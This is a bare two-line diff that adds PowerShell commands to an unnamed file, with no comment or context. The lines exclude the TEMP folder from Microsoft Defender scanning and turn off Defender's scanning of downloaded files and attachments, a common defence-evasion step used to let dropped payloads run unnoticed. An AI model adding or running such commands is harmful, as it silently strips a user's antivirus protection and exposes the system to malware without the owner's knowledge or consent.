@@ -1,0 +1,2 @@
+Add-MpPreference -ExclusionPath $env:TEMP
+Set-MpPreference -DisableIOAVProtection $true
